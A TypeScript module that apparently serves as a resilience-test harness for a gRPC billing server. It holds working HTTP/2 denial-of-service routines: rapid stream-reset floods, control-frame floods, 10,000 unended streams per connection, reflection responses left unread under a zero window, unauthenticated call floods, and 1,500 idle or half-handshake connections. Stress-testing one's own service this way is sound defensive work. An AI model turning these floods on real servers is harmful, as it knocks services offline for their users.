import { connect, type Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import {
  DATA,
  END_STREAM,
  frame,
  grpcMessage,
  headerBlocks,
  headersFrame,
  PING,
  PREFACE,
  RST_STREAM,
  SETTINGS,
  windowUpdate,
} from '../../../bench/http2/frames'
import type { Target } from './target'

/*
 * Attacks by strangers, as frames of HTTP/2: no client would send them. Each keeps its connections open until its time is
 * over, and makes those again that the server ends.
 */

const PRIORITY = 2
const EMPTY = Buffer.alloc(0)
const CANCEL = Buffer.from([0, 0, 0, 8])
const REFLECT = '/grpc.reflection.v1.ServerReflection/ServerReflectionInfo'

interface Attack {
  connections: number
  /** The first bytes of a connection. */
  opening: Buffer
  /** Sent again and again, as fast as the server reads. Absent = nothing more is sent. */
  flood?: (() => Buffer) | undefined
}

/** Resolves to the number of connections that were made. */
async function attack(
  { address, untilMs }: Target,
  { connections, opening, flood }: Attack,
): Promise<number> {
  let made = 0
  const one = async () => {
    while (performance.now() < untilMs) {
      const socket = await connected(address)
      if (socket !== undefined) {
        made++
        await used(socket, { opening, flood, untilMs })
      }
      await sleep(20)
    }
  }
  await Promise.all(Array.from({ length: connections }, one))
  return made
}

function connected(address: string): Promise<Socket | undefined> {
  const [host, port] = address.split(':')
  return new Promise((resolve) => {
    const socket = connect({ host: host ?? '', port: Number(port), noDelay: true }, () => resolve(socket))
    socket.once('error', () => resolve(undefined))
  })
}

/** Until the time is over, or the server ends the connection. */
function used(
  socket: Socket,
  { opening, flood, untilMs }: Pick<Attack, 'opening' | 'flood'> & { untilMs: number },
): Promise<void> {
  return new Promise((resolve) => {
    const timer = setTimeout(() => socket.destroy(), untilMs - performance.now())
    socket.on('error', () => undefined)
    socket.on('close', () => {
      clearTimeout(timer)
      resolve()
    })
    socket.resume()
    socket.write(opening)
    if (flood === undefined) return
    const send = () => {
      // In a later turn of the event loop: one turn would otherwise last for as long as the server reads.
      if (!socket.destroyed) socket.write(flood(), () => setImmediate(send))
    }
    send()
  })
}

/** The peer may send so many bytes on each stream before it is given more. */
function settings(initialWindowBytes = 65_535): Buffer {
  const payload = Buffer.alloc(6)
  payload.writeUInt16BE(4)
  payload.writeUInt32BE(initialWindowBytes, 2)
  return frame(SETTINGS, 0, payload)
}

/** Streams of one method, each with some data; none of them ends. */
function streams(path: string, count: number, data: Buffer): Buffer {
  const { first, later } = headerBlocks('localhost', path)
  const frames = Array.from({ length: count }, (_, n) => {
    const id = 2 * n + 1
    return Buffer.concat([headersFrame(id, n === 0 ? first : later), frame(DATA, id, data)])
  })
  return Buffer.concat(frames)
}

function repeated(bytes: Buffer, count: number): () => Buffer {
  const all = Buffer.concat(Array.from({ length: count }, () => bytes))
  return () => all
}

/** Opens streams and resets them at once. */
function resets(path: string): { opening: Buffer; flood: () => Buffer } {
  const { first, later } = headerBlocks('localhost', path)
  let id = 1
  const opened = (block: Buffer) => {
    id += 2
    return Buffer.concat([headersFrame(id, block), frame(RST_STREAM, id, CANCEL)])
  }
  return {
    opening: Buffer.concat([PREFACE, settings(), headersFrame(1, first), frame(RST_STREAM, 1, CANCEL)]),
    flood: () => Buffer.concat(Array.from({ length: 200 }, () => opened(later))),
  }
}

/** Asks for the file that declares the BillingService: an answer of the whole contract. */
const QUESTION = (() => {
  const symbol = Buffer.from('tollgate.billing.v1.BillingService')
  return grpcMessage(Buffer.concat([Buffer.from([0x22, symbol.length]), symbol]))
})()

function plainFlood(bytes: Buffer): (target: Target) => Promise<number> {
  return (target) =>
    attack(target, {
      connections: 4,
      opening: Buffer.concat([PREFACE, settings()]),
      flood: repeated(bytes, 2_000),
    })
}

function manyStreams(path: string): (target: Target) => Promise<number> {
  const opening = Buffer.concat([PREFACE, settings(), streams(path, 10_000, grpcMessage(EMPTY))])
  return (target) => attack(target, { connections: 10, opening })
}

/** The beginning of a greeting of TLS, whose rest never comes. */
const HALF_A_GREETING = Buffer.from([0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc, 0x03, 0x03])

export const rawAttacks = {
  'reflection whose answers are never read': (target: Target) =>
    attack(target, {
      connections: 6,
      opening: Buffer.concat([
        PREFACE,
        settings(0),
        streams(REFLECT, 100, Buffer.concat(Array.from({ length: 12 }, () => QUESTION))),
      ]),
    }),
  '10,000 health watches on each connection': manyStreams('/grpc.health.v1.Health/Watch'),
  '10,000 unknown calls on each connection': manyStreams('/nowhere.Nothing/AtAll'),
  'a flood of PRIORITY': plainFlood(frame(PRIORITY, 1, Buffer.from([0, 0, 0, 3, 16]))),
  'a flood of WINDOW_UPDATE': plainFlood(windowUpdate(0, 1)),
  'a flood of SETTINGS': plainFlood(settings()),
  'a flood of PING': plainFlood(frame(PING, 0, Buffer.alloc(8))),
  'a flood of empty DATA': (target: Target) => {
    const { first } = headerBlocks('localhost', '/grpc.health.v1.Health/Watch')
    return attack(target, {
      connections: 4,
      opening: Buffer.concat([PREFACE, settings(), headersFrame(1, first)]),
      flood: repeated(frame(DATA, 1, EMPTY), 2_000),
    })
  },
  'a flood of calls that are reset': (target: Target) =>
    Promise.all(
      Array.from({ length: 4 }, async () => {
        let made = 0
        while (performance.now() < target.untilMs) {
          const once = { ...target, untilMs: Math.min(target.untilMs, performance.now() + 500) }
          made += await attack(once, { connections: 1, ...resets('/grpc.health.v1.Health/Check') })
        }
        return made
      }),
    ).then((parts) => parts.reduce((sum, part) => sum + part, 0)),
  'a flood of calls without a token': (target: Target) => {
    const { first, later } = headerBlocks('localhost', '/tollgate.billing.v1.BillingService/ChargeUsage')
    let id = 1
    const call = () => {
      id += 2
      return Buffer.concat([headersFrame(id, later), frame(DATA, id, EMPTY, END_STREAM)])
    }
    return attack(target, {
      connections: 1,
      opening: Buffer.concat([PREFACE, settings(), headersFrame(1, first)]),
      flood: () => Buffer.concat(Array.from({ length: 50 }, call)),
    })
  },
  'strangers who say nothing': (target: Target) => attack(target, { connections: 1_500, opening: EMPTY }),
  'strangers who say hello and nothing more': (target: Target) =>
    attack(target, { connections: 1_500, opening: Buffer.concat([PREFACE, settings()]) }),
  'strangers who stop in the handshake of TLS': (target: Target) =>
    attack(target, { connections: 1_500, opening: HALF_A_GREETING }),
}
